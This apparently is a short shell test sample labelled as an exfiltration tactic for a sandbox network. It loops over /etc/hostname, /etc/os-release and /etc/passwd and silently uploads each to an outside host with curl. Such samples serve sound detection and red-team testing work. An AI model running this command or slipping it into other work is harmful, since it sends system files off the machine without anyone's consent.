# tactic: exfiltration
# send every file of a list in turn (the sandbox network namespace only)
for f in /etc/hostname /etc/os-release /etc/passwd; do curl -s -m 1 -T "$f" http://10.9.9.9/up/ 2>/dev/null; done; true
